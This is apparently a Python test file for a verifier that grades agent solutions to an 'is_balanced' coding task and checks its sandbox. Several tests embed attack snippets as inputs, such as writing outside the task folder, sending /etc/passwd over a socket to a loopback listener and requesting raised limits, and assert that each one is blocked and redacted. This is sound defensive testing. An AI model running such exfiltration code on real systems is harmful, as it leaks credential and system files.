"""Unit-test verification of code tasks: solutions from τ, hidden tests from q, sandbox reasons."""

from __future__ import annotations

from environments.code import example_task
from schemas.record import AgentRecord, Environment, Source, Verifier
from schemas.steps import ApiAction, CodeAction, MessageAction, TextObservation
from verifiers.base import CheckContext
from verifiers.unit_tests import UnitTestVerifier

TASK = example_task("is_balanced")


def code_record(trajectory, task=TASK, spec=None) -> AgentRecord:
    return AgentRecord(
        id="code-test",
        environment=Environment(kind="code_sandbox", name="code"),
        task=task.to_task(),
        trajectory=trajectory,
        verifier=Verifier(kind="unit_tests", spec=spec or {}),
        source=Source(dataset="unit", format="literal"),
    )


def check(trajectory, **kwargs):
    return UnitTestVerifier().check(CheckContext(record=code_record(trajectory, **kwargs)))


def test_the_reference_in_a_fenced_block_passes():
    verdict = check([MessageAction(content=f"Here it is:\n```python\n{TASK.reference}```\nDone.")])
    assert (verdict.passed, verdict.score, verdict.reasons) == (True, 1.0, [])
    assert verdict.evidence["tests_passed"] == 5


def test_a_subtly_wrong_solution_fails_some_tests():
    wrong = "def is_balanced(text):\n    return text.count('(') == text.count(')')\n"
    verdict = check(
        [
            ApiAction(function="submit_solution", kwargs={"code": wrong}, tool_call_id="s"),
            TextObservation(content="submitted", source="tool", tool_call_id="s"),
            MessageAction(content="ok"),
        ]
    )
    assert verdict.passed is False
    assert verdict.reasons == ["tests_failed"]
    assert verdict.score == 0.8  # only '}{' (no parentheses, wrong order) fails


def test_the_last_code_action_is_the_solution():
    verdict = check(
        [CodeAction(language="python", content="def is_balanced(text):\n    while True:\n        pass\n")],
        spec={"limits": {"cpu_s": 1, "wall_s": 5}},
    )
    assert verdict.reasons == ["timeout"]
    assert verdict.score == 0.0


def test_sandbox_violations_are_the_reason():
    escape = "open('/etc/aceforge-was-here', 'w')\n" + TASK.reference
    assert check([CodeAction(language="python", content=escape)]).reasons == ["write_denied"]


def test_no_solution_and_no_tests():
    assert check([MessageAction(content="I cannot do this.")]).reasons == ["no_solution"]
    record = code_record([MessageAction(content="```python\nx = 1\n```")])
    record.task.expected_outputs = {}
    assert UnitTestVerifier().check(CheckContext(record=record)).reasons == ["no_tests"]


def code_env_record(submission: str) -> AgentRecord:
    """A trajectory in the code environment: try the function, then submit it."""
    from environments.code import CodeEnvironment
    from environments.to_record import to_record_environment

    live = CodeEnvironment("is_balanced")
    environment = to_record_environment(live, snapshot_id="code-is_balanced", kind="code_sandbox")
    environment.sandbox = {"env_params": {"task_id": "is_balanced"}}
    probe = submission + "\nprint(is_balanced('([])'))\n"
    steps = [TextObservation(content=TASK.instruction(), source="user")]
    for cid, (tool, code) in enumerate((("run_python", probe), ("submit_solution", submission))):
        steps.append(ApiAction(function=tool, kwargs={"code": code}, tool_call_id=f"c{cid}"))
        steps.append(
            TextObservation(content=live.call(tool, {"code": code}).as_text(), source="tool", tool_call_id=f"c{cid}")
        )
    steps.append(MessageAction(content="Submitted."))
    return AgentRecord(
        id="code-env",
        environment=environment,
        task=TASK.to_task(),
        trajectory=steps,
        verifier=Verifier(kind="unit_tests"),
        source=Source(dataset="unit", format="literal"),
    )


def test_a_code_environment_trajectory_is_replayed_then_its_submission_tested():
    from verifiers.runner import verify_record

    good = verify_record(code_env_record(TASK.reference))
    assert (good.passed, good.reasons) == (True, [])
    assert [s["verifier"] for s in good.evidence["stages"]] == ["structure", "replay", "unit_tests"]
    wrong = verify_record(code_env_record("def is_balanced(text):\n    return len(text) % 2 == 0\n"))
    assert wrong.reasons == ["tests_failed"]
    assert wrong.evidence["unit_tests"]["tests_passed"] == 2  # only the two even-length balanced cases


def test_a_record_cannot_raise_the_limits_nor_reach_a_listener_on_loopback():
    from environments.code import sandbox_config
    from tests.environments.code.attacks import Listener

    listener = Listener()
    try:
        leak = (
            f"import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', {listener.port}), timeout=2)\n"
            "    s.sendall(open('/etc/passwd', 'rb').read())\nexcept OSError:\n    pass\n"
        )
        wish = {"network": True, "wall_s": 1000, "cpu_s": 1000, "memory_mb": 100000, "max_processes": 500}
        verdict = check([CodeAction(language="python", content=leak + TASK.reference)], spec={"limits": wish})
    finally:
        listener.close()
    assert listener.accepted == 0
    assert (verdict.passed, verdict.reasons) == (False, ["network_denied"])
    assert verdict.evidence["limits"] == sandbox_config().limits.model_dump()


def test_evidence_is_bounded_and_names_no_file_outside_the_task_folder():
    code = (
        "import sys\nsys.stderr.write('x' * 100000)\nprint(open('/etc/passwd').read(), file=sys.stderr)\n"
        + TASK.reference
    )
    verdict = check([CodeAction(language="python", content=code)])
    evidence = str(verdict.evidence)
    assert verdict.reasons == ["runtime_error"]
    assert verdict.evidence["errors"][0]["detail"].endswith("No such file or directory: '<path>'")
    assert "/etc/passwd" not in evidence and "root:x" not in evidence
    assert len(verdict.evidence["stderr"]) == 500
